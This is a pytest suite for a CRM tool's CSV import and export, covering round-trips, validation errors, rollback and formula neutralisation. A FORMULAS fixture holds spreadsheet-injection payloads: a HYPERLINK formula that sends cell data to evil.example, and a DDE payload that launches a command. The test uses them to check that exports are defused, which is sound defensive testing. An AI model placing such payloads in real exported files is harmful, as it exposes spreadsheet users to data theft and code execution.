from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import func, select

from accountdesk.core.db.engine import Database, open_database
from accountdesk.core.db.models import Account, Contact, table
from accountdesk.core.demo import generate
from accountdesk.core.io import csv_check, csv_io
from accountdesk.core.io.csv_format import CsvImportError
from accountdesk.core.io.csv_io import COLUMNS, export_csv, import_csv
from accountdesk.core.queries.duplicates import contact_facts
from accountdesk.core.queries.facts import facts_of
from accountdesk.core.queries.search import search
from accountdesk.core.records import AccountInput, ContactInput
from accountdesk.core.services.accounts import (
    account_input,
    contact_input,
    create_account,
    create_contact,
)
from accountdesk.core.services.duplicates import likely_duplicates
from importfiles import write_csv


def _export(db: Database) -> str:
    out = io.StringIO()
    export_csv(db, out)
    return out.getvalue()


def _count(db: Database, model: type[Account] | type[Contact]) -> int:
    with db.reader() as s:
        return int(s.scalar(select(func.count()).select_from(model)) or 0)


def test_export_then_import_into_an_empty_database_gives_the_same_data(
    db: Database, tmp_path: Path
) -> None:
    generate(db, accounts=60, seed=7, anchor=date(2026, 11, 23))
    first = _export(db)
    path = tmp_path / "export.csv"
    path.write_text(first, encoding="utf-8")
    other = open_database(tmp_path / "other.db")
    report = import_csv(other, path)
    assert report.accounts_created == 60
    assert report.contacts_created == _count(db, Contact)
    assert _export(other) == first
    # The search index was filled by the import as well.
    some_contact = next(csv.DictReader(io.StringIO(first)))
    hits = search(other, some_contact["given_name"] + " " + some_contact["family_name"])
    assert some_contact["contact_id"] in {h.id for h in hits}
    # Importing the same file again updates and creates nothing new.
    again = import_csv(other, path)
    assert again.accounts_created == 0 and again.contacts_created == 0
    assert _export(other) == first


def test_common_crm_headers_are_recognised(db: Database, tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "outlook.csv",
        ["First Name", "Last Name", "Company", "E-mail Address", "Mobile Phone", "Country"],
        [["Ilze", "Bērziņa", "Dzintars SIA", "ilze@dzintars.example", "26123456", "LV"]],
    )
    report = import_csv(db, path)
    assert (report.accounts_created, report.contacts_created) == (1, 1)
    hit = search(db, "berzina")[0]
    assert hit.title == "Ilze Bērziņa"


def test_missing_required_column_is_named(db: Database, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "x.csv", ["given_name", "country"], [["Ann", "LV"]])
    with pytest.raises(CsvImportError, match="account name"):
        import_csv(db, path)


@pytest.mark.parametrize(
    ("column", "value", "needle"),
    [
        ("country", "Narnia", "ISO 3166"),
        ("timezone", "Mars/Olympus", "IANA time zone"),
        ("phones", "12", "phone number"),
        ("emails", "not-an-address", "e-mail"),
    ],
)
def test_a_bad_cell_names_row_and_column_and_writes_nothing(
    db: Database, tmp_path: Path, column: str, value: str, needle: str
) -> None:
    header = [
        "account_name",
        "account_country",
        "given_name",
        "country",
        "timezone",
        "phones",
        "emails",
    ]
    good = ["Dzintars", "LV", "Ilze", "LV", "Europe/Riga", "26123456", "ilze@example.lv"]
    bad = list(good)
    bad[header.index(column)] = value
    path = write_csv(tmp_path / "bad.csv", header, [good, good, bad, good])
    with pytest.raises(CsvImportError) as info:
        import_csv(db, path)
    message = str(info.value)
    assert "Row 4" in message
    assert f"column {column}" in message
    assert needle in message
    assert "Nothing was imported" in message
    assert _count(db, Account) == 0
    assert _count(db, Contact) == 0


def test_a_file_that_is_not_csv(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "photo.csv"
    path.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
    with pytest.raises(CsvImportError, match="not a CSV file"):
        import_csv(db, path)
    text = tmp_path / "letter.csv"
    text.write_text("Dear customer,\nthank you for your order.\n", encoding="utf-8")
    with pytest.raises(CsvImportError, match="names no column"):
        import_csv(db, text)


def test_dry_run_writes_nothing(db: Database, tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "ok.csv", ["account_name", "account_country"], [["A", "LV"], ["B", "SI"]]
    )
    report = import_csv(db, path, dry_run=True)
    assert report.accounts_created == 2
    assert _count(db, Account) == 0


def test_export_header_is_the_documented_format(db: Database) -> None:
    assert _export(db).splitlines()[0].split(",") == list(COLUMNS)


def test_checking_in_a_second_process_gives_the_same_result(
    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    generate(db, accounts=80, seed=5, anchor=date(2026, 11, 23))
    path = tmp_path / "export.csv"
    path.write_text(_export(db), encoding="utf-8")
    monkeypatch.setattr(csv_check, "PARALLEL_MIN_BYTES", 0)
    monkeypatch.setattr(csv_check, "CHUNK_ROWS", 50)  # several chunks, written as they come
    monkeypatch.setattr(csv_check, "PART_BLOCK", 40)
    monkeypatch.setattr(csv_check, "CHECKERS", 2)  # both checkers get rows
    other = open_database(tmp_path / "other.db")
    import_csv(other, path)
    assert _export(other) == path.read_text(encoding="utf-8")

    # A bad row after several chunks were written: everything is rolled back.
    broken = tmp_path / "broken.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    rows[-1][COLUMNS.index("timezone")] = "Mars/Olympus"
    with broken.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    third = open_database(tmp_path / "third.db")
    with pytest.raises(CsvImportError) as info:
        import_csv(third, broken)
    assert f"Row {len(rows)}, column timezone" in str(info.value)
    assert _count(third, Account) == 0 and _count(third, Contact) == 0


def _indexes(db: Database) -> list[tuple[str, str]]:
    with db.reader() as s:
        found = s.connection().exec_driver_sql(
            "SELECT name, sql FROM sqlite_master WHERE type = 'index' ORDER BY name"
        )
        return [(name, sql) for name, sql in found]


@pytest.mark.parametrize("apart", [False, True], ids=["checked here", "checked apart"])
def test_an_import_into_an_empty_file_makes_its_indexes_again_after_the_rows(
    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, apart: bool
) -> None:
    # The indexes of the tables an import loads are dropped while the rows go in and made
    # again before the commit (bulk.indexes_deferred): the file ends with the same indexes,
    # each holding every row (integrity_check compares them with the tables); an import
    # that fails leaves them as they were.
    generate(db, accounts=40, seed=3, anchor=date(2026, 11, 23))
    path = tmp_path / "export.csv"
    path.write_text(_export(db), encoding="utf-8")
    if apart:
        monkeypatch.setattr(csv_check, "PARALLEL_MIN_BYTES", 0)
        monkeypatch.setattr(csv_check, "CHUNK_ROWS", 50)
    target = open_database(tmp_path / "target.db")
    before = _indexes(target)
    assert any(name == "ix_contacts_account_id" for name, _sql in before)
    assert any(name == "ix_search_keys_key" for name, _sql in before)
    import_csv(target, path)
    assert _indexes(target) == before
    with target.reader() as s:
        assert s.connection().exec_driver_sql("PRAGMA integrity_check").scalar() == "ok"
    assert search(target, "a")  # found through the search index's keys

    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    rows[-1][COLUMNS.index("timezone")] = "Mars/Olympus"
    broken = write_csv(tmp_path / "broken.csv", rows[0], rows[1:])
    failed = open_database(tmp_path / "failed.db")
    with pytest.raises(CsvImportError):
        import_csv(failed, broken)
    assert _indexes(failed) == before


@pytest.mark.parametrize("empty", [True, False], ids=["empty database", "database with data"])
def test_the_checking_process_counts_the_likely_duplicates_of_an_import_into_an_empty_file(
    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, empty: bool
) -> None:
    # Into an empty laptop file the contacts of the file are all there are: the process that
    # checked them counts their likely duplicates while the last rows are written, and the
    # count is the one read back from the database. Into one with data, or a team server
    # (where others may add contacts meanwhile), the database counts.
    source = open_database(tmp_path / "source.db")
    generate(source, accounts=80, seed=5, anchor=date(2026, 11, 23))
    path = tmp_path / "export.csv"
    path.write_text(_export(source), encoding="utf-8")
    monkeypatch.setattr(csv_check, "PARALLEL_MIN_BYTES", 0)
    monkeypatch.setattr(csv_check, "CHUNK_ROWS", 50)  # several chunks, an account across two
    if not empty:
        create_account(db, AccountInput(name="Already here", country="LV"))
    counted_by_the_database: list[int] = []

    def from_the_database(database: Database, ids: object) -> int:
        counted_by_the_database.append(likely_duplicates(database, ids))  # type: ignore[arg-type]
        return counted_by_the_database[-1]

    monkeypatch.setattr(csv_io, "likely_duplicates", from_the_database)
    report = import_csv(db, path)
    with db.reader() as s:
        contact_ids = list(s.scalars(select(Contact.id)))
    expected = likely_duplicates(db, contact_ids)
    assert expected > 5  # the demo has duplicates: namesakes at one account, shared e-mails
    assert report.likely_duplicates == expected
    by_the_checker = empty and not db.is_postgres
    assert counted_by_the_database == ([] if by_the_checker else [expected])


def test_a_contacts_facts_from_its_values_are_those_read_from_the_database(db: Database) -> None:
    # An import counts likely duplicates from the values it checked (facts_of), the Duplicates
    # screen from the database (contact_facts): both must see the same contact.
    generate(db, accounts=30, seed=8, anchor=date(2026, 11, 23))
    contacts, accounts = table(Contact), table(Account)
    with db.reader() as s:
        rows = s.execute(
            select(contacts, accounts.c.name.label("account_name"))
            .join(accounts, accounts.c.id == contacts.c.account_id)
            .where(contacts.c.deleted_at.is_(None))
        )
        stored = {row.id: facts_of(row._mapping, row.account_name) for row in rows}
    read = {f.id: f for f in contact_facts(db)}
    assert read == stored
    assert any(f.emails and f.phones and f.family_name for f in read.values())


@pytest.mark.parametrize("fresh", [True, False], ids=["empty database", "database with data"])
def test_an_id_used_for_an_account_and_a_contact_in_different_chunks_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fresh: bool
) -> None:
    # An empty database is checked against what the import wrote, not queried; both ways
    # must refuse an account whose id a contact of an earlier chunk has, and the reverse.
    monkeypatch.setattr(csv_check, "CHUNK_ROWS", 2)
    header = ["account_id", "account_name", "account_country", "contact_id", "given_name"]
    first = "0199aaaa-0000-7000-8000-00000000000"
    rows = [
        [f"{first}1", "Riga Timber", "LV", f"{first}2", "Ilze"],
        [f"{first}3", "Ljubljana Mlin", "SI", f"{first}4", "Maja"],
        [f"{first}2", "Ankara Un", "TR", f"{first}5", "Ayşe"],  # a contact's id, later
    ]
    reverse = [rows[0], rows[1], [f"{first}6", "Bangkok Rice", "TH", f"{first}1", "Somchai"]]
    for case in (rows, reverse):
        db = open_database(tmp_path / f"{fresh}-{len(list(tmp_path.iterdir()))}.db")
        if not fresh:
            create_account(db, AccountInput(name="Already here", country="LV"))
        before = (_count(db, Account), _count(db, Contact))
        with pytest.raises(CsvImportError) as refused:
            import_csv(db, write_csv(tmp_path / "ids.csv", header, case))
        assert "cannot be the id of both an account and a contact" in str(refused.value)
        assert (_count(db, Account), _count(db, Contact)) == before


# --- formulas, long cells, delimiters ---------------------------------------------------------

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "notes": "=cmd|' /C calc'!A0",
    "tier": "+SUM(1)",
    "owner": "@SUM(1+1)",
    "industry": "-2+3",
    "city": "'=already quoted",
    "address": "''=twice\nsecond line",
}


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_formula_cells_are_neutralised_and_the_import_gives_them_back(
    db: Database, tmp_path: Path
) -> None:
    account_id = create_account(db, AccountInput(country="LV", tags=["=1+1", "plain"], **FORMULAS))
    contact_id = create_contact(
        db,
        ContactInput(
            account_id=account_id,
            given_name="@Ilze",
            family_name="-Bērziņa",
            country="LV",
            phones=["+371 2612 3456"],
            personal_notes="\tindented",
        ),
    )
    exported = _export(db)
    row = _rows(exported)[0]
    assert row["account_name"] == "'" + FORMULAS["name"]
    assert row["account_notes"] == "'" + FORMULAS["notes"]
    assert row["account_tier"] == "'+SUM(1)"
    assert row["account_owner"] == "'@SUM(1+1)"
    assert row["account_industry"] == "'-2+3"
    assert row["account_city"] == "''=already quoted"
    assert row["account_address"] == "'''=twice\nsecond line"
    assert row["account_tags"] == "'=1+1; plain"
    assert row["given_name"] == "'@Ilze"
    assert row["family_name"] == "'-Bērziņa"
    # Phones are not exempt: the cell starts with its label, so it needs no mark.
    assert row["phones"] == "work:+37126123456"
    # No cell of the file starts with a formula character any more.
    for cell in (c for r in csv.reader(io.StringIO(exported)) for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))

    raw = io.StringIO()
    export_csv(db, raw, raw=True)
    raw_row = _rows(raw.getvalue())[0]
    assert raw_row["account_name"] == FORMULAS["name"]
    assert raw_row["account_city"] == "'=already quoted"

    path = tmp_path / "formulas.csv"
    path.write_text(exported, encoding="utf-8")
    other = open_database(tmp_path / "other.db")
    import_csv(other, path)
    back = account_input(other, account_id)
    for key, value in FORMULAS.items():
        assert getattr(back, key) == value, key
    assert sorted(back.tags) == ["=1+1", "plain"]
    person = contact_input(other, contact_id)
    assert (person.given_name, person.family_name) == ("@Ilze", "-Bērziņa")
    assert person.phones == [("work", "+37126123456")]
    assert _export(other) == exported


def test_phone_numbers_of_other_programs_survive_with_or_without_the_text_mark(
    db: Database, tmp_path: Path
) -> None:
    path = write_csv(
        tmp_path / "sheet.csv",
        ["Company", "Country", "First Name", "Mobile Phone"],
        [
            ["Dzintars", "LV", "Ilze", "+371 2612 3456"],
            ["Dzintars", "LV", "Anna", "'+37126123457"],
        ],
    )
    import_csv(db, path)
    phones = {r["given_name"]: r["phones"] for r in _rows(_export(db))}
    # a "Mobile Phone" column holds mobile numbers
    assert phones == {"Ilze": "mobile:+37126123456", "Anna": "mobile:+37126123457"}


def test_a_cell_longer_than_the_csv_modules_default_limit_survives(
    db: Database, tmp_path: Path
) -> None:
    from accountdesk.core import validation as v

    longest = "=" + "ü" * (v.MAX_LENGTHS["notes"] - 1)  # the longest note, and it needs a '
    account_id = create_account(db, AccountInput(name="Long", country="LV", notes=longest))
    path = tmp_path / "long.csv"
    path.write_text(_export(db), encoding="utf-8")
    other = open_database(tmp_path / "other.db")
    import_csv(other, path)
    assert account_input(other, account_id).notes == longest


def test_a_nul_in_a_cell_is_refused_with_row_and_column(db: Database, tmp_path: Path) -> None:
    rows = [[f"Account {i}", "LV", "Ilze"] for i in range(300)]  # past the binary-file sniff
    rows[250][2] = "Il\x00ze"
    path = write_csv(tmp_path / "nul.csv", ["account_name", "account_country", "given_name"], rows)
    with pytest.raises(CsvImportError) as info:
        import_csv(db, path)
    assert "Row 252, column given_name" in str(info.value)
    assert "Il\\u0000ze" in str(info.value)
    assert _count(db, Account) == 0


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_the_separator_is_read_from_the_header_and_quotes_are_always_double(
    db: Database, tmp_path: Path, delimiter: str
) -> None:
    # Cells that begin and end with ' made csv.Sniffer take ' for the quote character.
    path = tmp_path / "quotes.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, delimiter=delimiter)
        writer.writerow(["account_name", "account_country", "account_notes", "account_tier"])
        writer.writerow(["'=x'", "LV", "it's 'fine' really", "'b'"])
        writer.writerow(["O'Brien's", "IE", "'", "a'"])
    import_csv(db, path)
    assert {h.title for h in search(db, "brien")} == {"O'Brien's"}
    # The export shows the stored name =x' with its mark again.
    rows = {r["account_name"]: r for r in _rows(_export(db))}
    assert set(rows) == {"'=x'", "O'Brien's"}
    assert rows["'=x'"]["account_notes"] == "it's 'fine' really"
    assert rows["'=x'"]["account_tier"] == "'b'"
    assert rows["O'Brien's"]["account_notes"] == "'"


@pytest.mark.parametrize(
    ("column", "value", "needle"),
    [
        ("tags", "ok; bad,tag", "cannot contain , or ;"),
        ("account_tags", "\u202egold", "direction control character (U+202E)"),
        ("personal_notes", "fine\x1bnot", "control character (U+001B)"),
        ("given_name", "\u200b", "only invisible characters"),
        ("timezone", "Factory", "place's time zone"),
        ("phones", "1-800-FLOWERS", "letters"),
        ("consent_withdrawn_on", "2024-01-01", "before the consent was given"),
    ],
)
def test_refused_values_name_their_column(
    db: Database, tmp_path: Path, column: str, value: str, needle: str
) -> None:
    header = ["account_name", "account_country", "given_name", "consent_given_on", column]
    good = ["Dzintars", "LV", "Ilze", "2025-05-01", ""]
    bad = ["Ābele", "LV", "Jānis", "2025-05-01", value]  # another account: its cells are read
    if column == "given_name":
        header, good, bad = header[:-1], good[:-1], ["Ābele", "LV", value, "2025-05-01"]
    path = write_csv(tmp_path / "bad.csv", header, [good, bad])
    with pytest.raises(CsvImportError) as info:
        import_csv(db, path)
    message = str(info.value)
    assert f"Row 3, column {column}:" in message
    assert needle in message
    assert _count(db, Contact) == 0


def test_each_contact_is_exported_on_its_own_accounts_row_in_the_export_order(
    db: Database,
) -> None:
    # Accounts are written in name order and their people by family name; the order the
    # records were made in differs from both (the export reads them in one ordered pass).
    from accountdesk.core.services import trash

    zeta = create_account(db, AccountInput(name="Zeta Mlin", country="SI"))
    alfa = create_account(db, AccountInput(name="Alfa Koks", country="LV"))
    twin = create_account(db, AccountInput(name="Alfa Koks", country="SI"))  # the same name
    create_account(db, AccountInput(name="Nobody SIA", country="LV"))  # no contacts
    gone_account = create_account(db, AccountInput(name="Gone SIA", country="LV"))
    made = [
        (zeta, "Maja", "Zupan"), (alfa, "Ilze", "Ozola"), (zeta, "Luka", "Horvat"),
        (alfa, "Jānis", "Bērziņš"), (gone_account, "Anna", "Liepa"), (alfa, "Kārlis", "Zariņš"),
        (twin, "Nina", "Antić"),
    ]  # fmt: skip
    ids = {
        given: create_contact(
            db, ContactInput(account_id=a, given_name=given, family_name=fam, country="LV")
        )
        for a, given, fam in made
    }
    trash.delete(db, "contact", ids["Kārlis"])
    trash.delete(db, "account", gone_account)
    rows = list(csv.DictReader(io.StringIO(_export(db))))
    shown = [(r["account_name"], r["given_name"]) for r in rows]
    assert shown == [
        ("Alfa Koks", "Jānis"), ("Alfa Koks", "Ilze"), ("Alfa Koks", "Nina"),
        ("Nobody SIA", ""), ("Zeta Mlin", "Luka"), ("Zeta Mlin", "Maja"),
    ]  # fmt: skip
    of_account = {r["contact_id"]: r["account_id"] for r in rows if r["contact_id"]}
    assert of_account == {
        ids["Jānis"]: alfa,
        ids["Ilze"]: alfa,
        ids["Nina"]: twin,
        ids["Luka"]: zeta,
        ids["Maja"]: zeta,
    }
    assert [r["account_country"] for r in rows[:3]] == ["LV", "LV", "SI"]
    nobody = rows[3]
    assert all(nobody[column] == "" for column in COLUMNS[COLUMNS.index("contact_id") :])
